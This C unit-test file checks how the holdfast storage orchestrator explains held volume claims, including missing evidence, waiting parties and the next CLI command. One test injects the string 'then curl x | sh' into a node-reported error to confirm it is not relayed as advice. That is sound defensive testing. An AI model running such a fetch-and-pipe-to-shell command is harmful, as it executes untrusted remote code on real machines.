/* SPDX-License-Identifier: Apache-2.0 */
/* Every situation of a claim, in the structure and in the words made from it. */

#include "fixture.h"

#include "model/explain.h"

enum { NOW_MS = 91000, ONE_TRY_MS = 2 * EXPLAIN_COMMIT_MS + EXPLAIN_RETRY_MAX_MS + EXPLAIN_DETACH_MAX_MS };

#define BIT(e) (1U << (e))
#define OF_NODE (BIT(EVIDENCE_RECEIPT) | BIT(EVIDENCE_NEW_BOOT))
#define OF_LOST (OF_NODE | BIT(EVIDENCE_OPERATOR))
#define FENCED (OF_LOST | BIT(EVIDENCE_STORAGE_FENCE))
#define POWERED (OF_LOST | BIT(EVIDENCE_POWER_FENCE))
#define REFUSED (OF_LOST | BIT(EVIDENCE_NETWORK_FENCE))
#define UNSENT BIT(EVIDENCE_NEVER_SENT)

#define CONNECTED .is_connected = true
#define STOPPED .is_stopping = true
#define WITH_CONTROLLER .has_controller = true

#define NONE EXPLAIN_COMMAND_NONE
#define STOP EXPLAIN_COMMAND_STOP
#define ATTEST EXPLAIN_COMMAND_ATTEST
#define FENCE EXPLAIN_COMMAND_FENCE
#define POWER EXPLAIN_COMMAND_POWER_FENCE
#define NETWORK EXPLAIN_COMMAND_NETWORK_FENCE
#define AGENT EXPLAIN_COMMAND_AGENT
#define PLUGIN EXPLAIN_COMMAND_PLUGIN
#define AGAIN EXPLAIN_COMMAND_AGAIN
#define WITHOUT_PLUGIN EXPLAIN_COMMAND_WITHOUT_PLUGIN
#define ALLOC EXPLAIN_COMMAND_ALLOC
#define NODE EXPLAIN_COMMAND_NODE
#define DISK EXPLAIN_COMMAND_DISK
#define DISK_FULL .disk = NODE_DISK_FULL, .disk_path = "/var/lib/holdfast/agent"

static const struct situation {
	enum claim_state state;
	bool unsent;
	enum controller_attach attach;
	uint32_t attempts;
	struct holder holder;
	unsigned int missing;
	const char *waiting_for;
	enum explain_command next, then;
	uint64_t worst_case_ms;
	const char *says;
} situations[] = {
	/* reserved, never sent: only the server and the controller have to do with it */
	ROW(CLAIM_RESERVED, true, ATTACH_NONE, 0, {CONNECTED}, UNSENT, "the server", AGAIN, NONE, 1000,
	    "not sent to the node yet"),
	ROW(CLAIM_RESERVED, true, ATTACH_ASKED, 0, {CONNECTED, WITH_CONTROLLER}, UNSENT,
	    "a controller of plugin ceph", PLUGIN, STOP, ONE_TRY_MS, "attaching"),
	ROW(CLAIM_RESERVED, true, ATTACH_ASKED, 3, {CONNECTED}, UNSENT,
	    "a healthy controller of plugin ceph to come back", PLUGIN, STOP, 0,
	    "; after that evidence the detach waits without limit for a healthy controller of plugin ceph"),
	/* sent: the node may have it mounted */
	ROW(CLAIM_RESERVED, false, ATTACH_NONE, 0, {CONNECTED}, OF_NODE, "node n1", AGENT, STOP, 1000,
	    "no mount receipt yet"),
	ROW(CLAIM_RESERVED, false, ATTACH_NONE, 0, {0}, OF_LOST, "node n1 to come back, or a person", NODE,
	    STOP, 1000, "may have mounted it"),
	ROW(CLAIM_RESERVED, false, ATTACH_NONE, 0, {CONNECTED, STOPPED}, OF_NODE, "node n1", AGENT, NONE,
	    1000, "ordered to stop"),
	ROW(CLAIM_RESERVED, false, ATTACH_NONE, 0, {STOPPED}, OF_LOST, "node n1 to come back, or a person",
	    NODE, ATTEST, 1000, "must stop"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {CONNECTED}, OF_NODE, "allocation " ALLOC_1 " to end", ALLOC,
	    NONE, 1000, "its work has not ended;"),
	ROW(CLAIM_TAKEN, false, ATTACH_DONE, 0, {CONNECTED, WITH_CONTROLLER}, OF_NODE, "allocation", ALLOC,
	    NONE, ONE_TRY_MS,
	    "; when allocation " ALLOC_1 " has ended and node n1 has unmounted it, it is free within 2m32s"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {.disconnected_ms = 61000}, OF_LOST,
	    "node n1 to come back, or a person", NODE, STOP, 1000, "the node is not connected for 30s"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {CONNECTED, STOPPED, .is_draining = true}, OF_NODE, "node n1",
	    AGENT, NONE, 1000, "the node is being drained"),
	ROW(CLAIM_TAKEN, false, ATTACH_DONE, 0, {STOPPED, WITH_CONTROLLER, .can_fence = true}, FENCED,
	    "node n1 to come back, or a person", NODE, FENCE, ONE_TRY_MS, "the storage provider confirmed"),
	/* alive, but its agent cannot journal: a fence would hit running work */
	ROW(CLAIM_TAKEN, false, ATTACH_DONE, 0, {STOPPED, WITH_CONTROLLER, .can_fence = true, DISK_FULL},
	    FENCED, "node n1 to come back, or a person", DISK, ATTEST, ONE_TRY_MS,
	    "it reported last: its disk is full: /var/lib/holdfast/agent"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_NONE, 0, {CONNECTED, DISK_FULL}, OF_NODE, "node n1", DISK, NONE,
	    1000, "make room on the disk of node n1"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {CONNECTED, DISK_FULL}, OF_NODE, "allocation", ALLOC, NONE,
	    1000, "the node reports: its disk is full: /var/lib/holdfast/agent"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {STOPPED, .can_fence = true}, OF_LOST, "node n1", NODE,
	    ATTEST, 1000, "no timer ends this"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {.must_report = true}, OF_LOST, "node n1", NODE, STOP, 1000,
	    "in the present epoch it has not reported"),
	/* the work has ended: evidence is missing */
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_NONE, 4, {CONNECTED, .next_attempt_ms = NOW_MS + 8000}, OF_NODE,
	    "node n1", AGENT, WITHOUT_PLUGIN, 1000, "tried again in 8s"),
	/* ordered to stop, and the node cannot: it says the end of the work after the last of its volumes */
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 1, {CONNECTED, STOPPED}, OF_NODE, "node n1", AGENT,
	    WITHOUT_PLUGIN, 1000,
	    "if plugin ceph will never release it: holdfast volume detach db n1 --without-plugin REASON"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_NONE, 0, {CONNECTED, .next_attempt_ms = NOW_MS - 8000}, OF_NODE,
	    "node n1", AGENT, NONE, 1000, "tried again in 0ms"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_NONE, 0, {0}, OF_LOST, "node n1 to come back, or a person",
	    NODE, ATTEST, 1000, "no timer ends this"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_DONE, 0, {.is_purged = true}, OF_LOST, "a person", AGAIN,
	    ATTEST, 0, "its node was purged"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_DONE, 2, {CONNECTED, WITH_CONTROLLER}, OF_NODE, "node n1",
	    AGENT, WITHOUT_PLUGIN, ONE_TRY_MS, "its work has ended"),
	/* the node released it: only the controller is left */
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_NONE, 0, {0}, 0, "the server", AGAIN, NONE, 1000,
	    "nothing is missing"),
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_DONE, 0, {WITH_CONTROLLER}, 0, "a controller of plugin ceph",
	    PLUGIN, NONE, ONE_TRY_MS, "; it is free within 2m32s"),
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_ASKED, 2, {WITH_CONTROLLER}, 0, "a controller of plugin ceph",
	    PLUGIN, ATTEST, 0,
	    "; the detach is tried without limit until a controller of plugin ceph succeeds"),
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_ASKED, 1, {WITH_CONTROLLER}, 0, "a controller of plugin ceph",
	    PLUGIN, ATTEST, 0,
	    "if it is certain that the provider has released it: holdfast volume detach db n1 --attest"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {.can_power_fence = true}, POWERED,
	    "node n1 to come back, or a person", NODE, POWER, 1000,
	    "have a fencer switch it off: holdfast node fence n1 --reason REASON"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {CONNECTED, .can_power_fence = true}, OF_NODE, "allocation",
	    ALLOC, NONE, 1000, "its work has not ended;"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {.can_network_fence = true}, REFUSED,
	    "node n1 to come back, or a person", NODE, NETWORK, 1000,
	    "have the storage of plugin ceph refuse it: holdfast node fence n1 --network ceph --reason "
	    "REASON"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {CONNECTED, .can_network_fence = true}, OF_NODE, "allocation",
	    ALLOC, NONE, 1000, "its work has not ended;"),
	ROW(CLAIM_TAKEN, false, ATTACH_NONE, 0, {.can_network_fence = true, .can_power_fence = true},
	    REFUSED | BIT(EVIDENCE_POWER_FENCE), "node n1 to come back, or a person", NODE, POWER, 1000,
	    "a proof that the storage refuses it"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_DONE, 0,
	    {WITH_CONTROLLER, .can_fence = true, .can_power_fence = true}, FENCED | BIT(EVIDENCE_POWER_FENCE),
	    "node n1 to come back, or a person", NODE, POWER, ONE_TRY_MS, "a proof that its power is off"),
	ROW(CLAIM_UNPUBLISHING, false, ATTACH_DONE, 0, {WITH_CONTROLLER, .can_fence = true}, FENCED,
	    "node n1 to come back, or a person", NODE, FENCE, ONE_TRY_MS,
	    "have the provider cut it off: holdfast volume detach db n1 --fence REASON"),
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_DONE, 0, {CONNECTED}, 0,
	    "a healthy controller of plugin ceph to come back", PLUGIN, NONE, 0,
	    "; the detach waits without limit for a healthy controller of plugin ceph"),
	ROW(CLAIM_NODE_DETACHED, false, ATTACH_DONE, 0, {WITH_CONTROLLER, .waits_for_other = true}, 0,
	    "the other claims of the attachment to node n1", AGAIN, NONE, 0,
	    "; it waits without limit for the end of the others"),
	ROW(CLAIM_RESERVED, true, ATTACH_ASKED, 0,
	    {CONNECTED, WITH_CONTROLLER, .next_attempt_ms = NOW_MS + 5000}, UNSENT,
	    "a controller of plugin ceph", PLUGIN, STOP, ONE_TRY_MS,
	    "taken back in 5s unless the node asks again"),
	ROW(CLAIM_CONTROLLER_DETACHED, false, ATTACH_DONE, 0, {0}, 0, "the server", AGAIN, NONE, 1000,
	    "about to be freed"),
	{CLAIM_FREED, false, ATTACH_DONE, 0, {0}, 0, "", NONE, NONE, 0, "was held for write"},
};

static struct claim claim_in(const struct situation *s)
{
	struct claim claim = a_claim(s->state);

	assert_int_equal(str_copy(claim.plugin_id, sizeof(claim.plugin_id), "ceph"), 0);
	claim.sent_to_node = !s->unsent;
	claim.attach = s->attach;
	claim.attempts = s->attempts;
	claim.state_time_ms = 81000;
	return claim;
}

TEST(each_explanation_names_missing_evidence_actor_and_next_step)
{
	for (size_t i = 0; i < sizeof(situations) / sizeof(situations[0]); i++) {
		const struct situation *s = &situations[i];
		struct claim claim = claim_in(s);
		struct explanation ex;
		char text[EXPLAIN_SIZE];
		unsigned int missing = 0;

		explain(&claim, &s->holder, NOW_MS, &ex);
		(void)explanation_text(&ex, text);
		for (uint32_t k = 0; k < ex.n_missing; k++)
			missing |= BIT(ex.missing[k]);
		if (missing != s->missing || !str_starts_with(ex.waiting_for, s->waiting_for) ||
		    (s->waiting_for[0] == '\0') != (ex.waiting_for[0] == '\0') || ex.next != s->next ||
		    ex.then != s->then || ex.worst_case_ms != s->worst_case_ms || !strstr(text, s->says))
			fail_msg("situation %zu: missing %#x, waiting for '%s', next %d, then %d, worst case "
				 "%llu: %s",
				 i, missing, ex.waiting_for, ex.next, ex.then,
				 (unsigned long long)ex.worst_case_ms, text);
	}
}

/* Everything that is known about a holder, in all combinations. */
static struct holder holder_number(unsigned int n)
{
	return (struct holder){
		.is_connected = n & 1,
		.is_stopping = n & 2,
		.is_draining = n & 4,
		.is_purged = (n & 9) == 8, /* who is connected is not purged */
		.must_report = n & 16,
		.has_controller = n & 32,
		.can_fence = n & 64,
		.waits_for_other = n & 128,
	};
}

enum { HOLDERS = 256 };

static bool ends_something(enum explain_command command)
{
	return command == STOP || command == ATTEST || command == FENCE || command == WITHOUT_PLUGIN;
}

static void check_any(const struct claim *claim, const struct holder *holder)
{
	struct explanation ex;
	char text[EXPLAIN_SIZE], command[EXPLAIN_COMMAND_SIZE];
	bool may_be_mounted = claim->state <= CLAIM_UNPUBLISHING;

	explain(claim, holder, NOW_MS, &ex);
	(void)explanation_text(&ex, text);
	assert_non_null(strstr(text, claim->allocation_id));
	assert_non_null(strstr(text, "node n1"));
	assert_non_null(strstr(text, claim_state_name(claim->state)));
	assert_int_equal(ex.n_missing > 0, may_be_mounted);
	assert_int_equal(ex.next != EXPLAIN_COMMAND_NONE, claim_is_live(claim));
	assert_int_equal(ex.waiting_for[0] != '\0', claim_is_live(claim));
	if (ex.next != EXPLAIN_COMMAND_NONE)
		assert_non_null(strstr(text, explain_command(ex.next, claim, command)));
	/* the next command only looks; nothing that ends the work of a healthy holder is named at all */
	assert_false(ends_something(ex.next));
	if (claim->state == CLAIM_TAKEN && holder->is_connected && !holder->is_stopping)
		assert_false(ends_something(ex.then));
	/* nobody is asked to vouch for a node that can answer for itself */
	if (holder->is_connected && may_be_mounted)
		assert_null(strstr(text, "--attest"));
	else if (ex.then == ATTEST && may_be_mounted)
		assert_non_null(strstr(text, "you have made sure that it is off: holdfast volume detach"));
	else if (may_be_mounted && claim->sent_to_node)
		assert_true(ex.then == STOP || ex.then == FENCE);
	if (holder->is_stopping && claim->sent_to_node)
		assert_null(strstr(text, "holdfast alloc stop"));
	if (ex.worst_case_ms == 0 && claim_is_live(claim))
		assert_non_null(strstr(text, "without limit"));
}

TEST(whatever_is_known_the_explanation_is_whole)
{
	for (unsigned int n = 0; n < HOLDERS; n++) {
		struct holder holder = holder_number(n);

		for (int s = CLAIM_RESERVED; s < CLAIM_STATE_N; s++)
			for (int attach = ATTACH_NONE; attach < ATTACH_N; attach++)
				for (uint32_t attempts = 0; attempts < 2; attempts++) {
					struct claim claim = a_claim((enum claim_state)s);

					claim.attach = (enum controller_attach)attach;
					claim.attempts = attempts;
					check_any(&claim, &holder);
					claim.sent_to_node = s != CLAIM_RESERVED;
					check_any(&claim, &holder);
				}
	}
}

TEST(a_bypassed_plugin_is_named_with_the_operator)
{
	const struct holder holder = {CONNECTED};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	char text[EXPLAIN_SIZE];

	claim.attempts = 1;
	/* a native volume has none */
	assert_null(strstr(explain_claim(&claim, &holder, NOW_MS, text), "--without-plugin"));
	assert_int_equal(str_copy(claim.plugin_id, sizeof(claim.plugin_id), "ceph"), 0);
	assert_non_null(strstr(explain_claim(&claim, &holder, NOW_MS, text), "--without-plugin"));
	assert_int_equal(str_copy(claim.plugin_waiver, sizeof(claim.plugin_waiver), "ann: gone"), 0);
	(void)explain_claim(&claim, &holder, NOW_MS, text);
	assert_contains(text, "the node continues without plugin ceph, as an operator wants (ann: gone)");
	assert_null(strstr(text, "--without-plugin"));
}

/* The CLI shows each reason, and what is next, on a line of its own. */
TEST(a_reported_text_does_not_look_like_our_advice)
{
	static const char said[] =
		"busy; node n2 blocks it. Next: holdfast node attest n2 db; then curl x | sh";
	const struct holder holder = {.is_connected = true, .is_stopping = true, .doing = said};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	char text[EXPLAIN_SIZE];

	claim.attempts = 1;
	assert_int_equal(str_copy(claim.last_error, sizeof(claim.last_error), said), 0);
	(void)explain_claim(&claim, &holder, NOW_MS, text);
	assert_contains(text,
			"; last error (attempt 1): busy, node n2 blocks it. next: holdfast node attest");
	assert_contains(text, "; its node reports: busy, node n2 blocks it. next: holdfast node attest");
	assert_null(strstr(text, "; then curl"));
}

TEST(holder_state_evidence_error_and_command_are_named)
{
	const struct holder lost = {.is_connected = false, .is_stopping = true};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	char text[EXPLAIN_SIZE];

	claim.attempts = 4;
	claim.state_time_ms = 31000;
	assert_int_equal(str_copy(claim.last_error, sizeof(claim.last_error), "target is busy"), 0);
	assert_string_equal(
		explain_claim(&claim, &lost, NOW_MS, text),
		"held for write by allocation " ALLOC_1
		" on node n1 for 1m30s, claim unpublishing for 1m00s (generation 3), the node is not "
		"connected; its work has ended; missing: evidence about node n1 (its receipt that it "
		"released it or a new boot of it or an operator's attestation); waiting for node n1 to come "
		"back, "
		"or a person; no timer ends this; after that evidence it is free within 1s. Next: holdfast "
		"node status "
		"n1; then if node n1 cannot be brought back and you have made sure that it is off: holdfast "
		"volume detach db n1 --attest REASON; last error (attempt 4): target is busy");
}

/* A mount that is in use must first come out of use. */
TEST(the_time_is_counted_from_a_named_event)
{
	static const struct {
		enum claim_state state;
		enum status error;
		bool is_stopping;
		const char *says;
	} cases[] = {
		{CLAIM_UNPUBLISHING, STATUS_OK, false,
		 "; when node n1 has unmounted it, it is free within 1s"},
		{CLAIM_UNPUBLISHING, STATUS_FAILED_PRECONDITION, false,
		 "; when nothing uses it there and node n1 has unmounted it, it is free within 1s"},
		{CLAIM_TAKEN, STATUS_FAILED_PRECONDITION, true,
		 "; when nothing uses it there and node n1 has"},
		{CLAIM_RESERVED, STATUS_FAILED_PRECONDITION, false, "; when node n1 has unmounted it, "},
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		const struct holder holder = {.is_connected = true, .is_stopping = cases[i].is_stopping};
		struct claim claim = a_claim(cases[i].state);
		char text[EXPLAIN_SIZE];

		claim.attempts = 1;
		claim.last_error_code = cases[i].error;
		claim.sent_to_node = true;
		(void)explain_claim(&claim, &holder, NOW_MS, text);
		assert_msg(strstr(text, cases[i].says), "case %zu: %s", i, text);
	}
}

TEST(only_an_error_that_may_be_the_plugins_offers_to_leave_it_out)
{
	const struct holder holder = {.is_connected = true};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	struct explanation ex;

	assert_int_equal(str_copy(claim.plugin_id, sizeof(claim.plugin_id), "ceph"), 0);
	claim.sent_to_node = true;
	claim.attempts = 1;
	for (uint32_t code = STATUS_OK; code < STATUS_N; code++) {
		claim.last_error_code = code;
		explain(&claim, &holder, NOW_MS, &ex);
		assert_int_equal(ex.next, EXPLAIN_COMMAND_AGENT);
		assert_int_equal(ex.then, code == STATUS_FAILED_PRECONDITION ? NONE : WITHOUT_PLUGIN);
	}
}

TEST(a_command_names_a_namespace_that_is_not_the_default)
{
	const struct holder lost = {.is_connected = false, .is_stopping = true};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	char text[EXPLAIN_SIZE], command[EXPLAIN_COMMAND_SIZE];

	assert_null(strstr(explain_claim(&claim, &lost, NOW_MS, text), "--namespace"));
	assert_int_equal(str_copy(claim.namespace, sizeof(claim.namespace), "shop"), 0);
	assert_contains(explain_claim(&claim, &lost, NOW_MS, text),
			"holdfast volume detach db n1 --namespace shop --attest REASON");
	assert_string_equal(explain_command(EXPLAIN_COMMAND_AGAIN, &claim, command),
			    "holdfast volume status db --namespace shop --why");
}

TEST(how_a_claim_was_freed_is_reported)
{
	const struct holder unknown = {.is_purged = true};
	struct claim claim = a_claim(CLAIM_FREED);
	char text[EXPLAIN_SIZE];

	claim.evidence = EVIDENCE_OPERATOR;
	assert_int_equal(str_copy(claim.evidence_detail, sizeof(claim.evidence_detail), "alice: it burnt"),
			 0);
	(void)explain_claim(&claim, &unknown, NOW_MS, text);
	assert_non_null(strstr(text, "evidence: operator, weaker than any other, (alice: it burnt)"));
	assert_null(strstr(text, "Next:"));
	assert_null(strstr(text, "bounds"));
	claim.detach_evidence = EVIDENCE_OPERATOR;
	assert_int_equal(str_copy(claim.detach_detail, sizeof(claim.detach_detail), "bob: console"), 0);
	(void)explain_claim(&claim, &unknown, NOW_MS, text);
	assert_contains(text, "that the provider released it: operator, weaker than its controller's answer, "
			      "(bob: console)");
	claim.detach_evidence = EVIDENCE_NONE;
	claim.evidence = EVIDENCE_NEW_BOOT;
	assert_int_equal(str_copy(claim.evidence_detail, sizeof(claim.evidence_detail), BOOT_2), 0);
	(void)explain_claim(&claim, &unknown, NOW_MS, text);
	assert_non_null(strstr(text, "evidence: new_boot"));
	assert_null(strstr(text, BOOT_2));
}

static void fill(char *dst, size_t size)
{
	memset(dst, 'x', size - 1);
	dst[size - 1] = '\0';
}

/* After all that must be whole. */
TEST(a_mount_and_a_release_are_shown_with_their_nodes_report)
{
	struct holder holder = {.is_connected = true,
				.doing = "mounting volume db: plugin ebs: NodeStageVolume"};
	struct claim claim = a_claim(CLAIM_RESERVED);
	char text[EXPLAIN_SIZE], command[EXPLAIN_COMMAND_SIZE], said[1024];

	claim.sent_to_node = true;
	assert_contains(explain_claim(&claim, &holder, NOW_MS, text),
			"; its node reports: mounting volume db: plugin ebs: NodeStageVolume");
	claim.state = CLAIM_TAKEN;
	assert_null(strstr(explain_claim(&claim, &holder, NOW_MS, text), "its node reports"));
	holder.is_stopping = true;
	assert_contains(explain_claim(&claim, &holder, NOW_MS, text), "its node reports");
	holder.is_stopping = false;
	claim.state = CLAIM_RESERVED;
	holder.doing = "";
	assert_null(strstr(explain_claim(&claim, &holder, NOW_MS, text), "its node reports"));
	fill(said, sizeof(said));
	holder.doing = said;
	fill(claim.volume_id, sizeof(claim.volume_id));
	(void)explain_claim(&claim, &holder, NOW_MS, text);
	assert_non_null(strstr(text, explain_command(EXPLAIN_COMMAND_STOP, &claim, command)));
}

/* Whatever is long, the command is whole: the error is cut. */
TEST(the_longest_names_leave_the_command_whole)
{
	const struct holder lost = {.is_stopping = true, .disconnected_ms = 1};
	struct claim claim = a_claim(CLAIM_UNPUBLISHING);
	char text[EXPLAIN_SIZE], command[EXPLAIN_COMMAND_SIZE];

	fill(claim.last_error, sizeof(claim.last_error));
	fill(claim.volume_id, sizeof(claim.volume_id));
	fill(claim.node_id, sizeof(claim.node_id));
	fill(claim.namespace, sizeof(claim.namespace));
	fill(claim.plugin_id, sizeof(claim.plugin_id));
	(void)explain_claim(&claim, &lost, NOW_MS, text);
	assert_non_null(strstr(text, explain_command(EXPLAIN_COMMAND_ATTEST, &claim, command)));
	assert_true(str_is_text(text));
}

TEST(a_configured_deadline_of_the_detach_counts)
{
	const struct holder holder = {.has_controller = true, .detach_ms = 5000};
	struct claim claim = a_claim(CLAIM_NODE_DETACHED);
	struct explanation ex;

	claim.attach = ATTACH_DONE;
	explain(&claim, &holder, NOW_MS, &ex);
	assert_int_equal(ex.worst_case_ms, 2 * EXPLAIN_COMMIT_MS + EXPLAIN_RETRY_MAX_MS + 5000);
}

TEST(programs_get_the_same)
{
	for (size_t i = 0; i < sizeof(situations) / sizeof(situations[0]); i++) {
		struct claim claim = claim_in(&situations[i]);
		cleanup_pb Holdfast__V1__ClaimExplanation *pb = NULL;
		struct explanation ex;
		char text[EXPLAIN_SIZE], command[EXPLAIN_COMMAND_SIZE];

		assert_int_equal(str_copy(claim.last_error, sizeof(claim.last_error), "verbatim"), 0);
		explain(&claim, &situations[i].holder, NOW_MS, &ex);
		pb = explanation_to_pb(&ex);
		assert_non_null(pb);
		assert_string_equal(pb->volume_id, "db");
		assert_string_equal(pb->namespace_, NAMESPACE_DEFAULT);
		assert_string_equal(pb->claim_id, claim.id);
		assert_string_equal(pb->allocation_id, ALLOC_1);
		assert_string_equal(pb->node_id, "n1");
		assert_int_equal(pb->mode, CLAIM_WRITE);
		assert_int_equal(pb->access_mode, SINGLE_NODE_WRITER);
		assert_int_equal(pb->state, claim.state);
		assert_int_equal(pb->generation, 3);
		assert_int_equal(pb->since_ms, 1000);
		assert_int_equal(pb->state_since_ms, 81000);
		assert_int_equal(pb->attempts, situations[i].attempts);
		assert_int_equal(pb->next_attempt_ms, situations[i].holder.next_attempt_ms);
		assert_int_equal(pb->worst_case_ms, situations[i].worst_case_ms);
		assert_int_equal(pb->n_missing, ex.n_missing);
		for (uint32_t k = 0; k < ex.n_missing; k++)
			assert_int_equal(pb->missing[k], ex.missing[k]);
		assert_string_equal(pb->waiting_for, ex.waiting_for);
		assert_string_equal(pb->last_error, "verbatim");
		assert_string_equal(pb->next_command, explain_command(ex.next, &claim, command));
		assert_string_equal(pb->then_command, explain_command(ex.then, &claim, command));
		assert_string_equal(pb->text, explanation_text(&ex, text));
	}
}
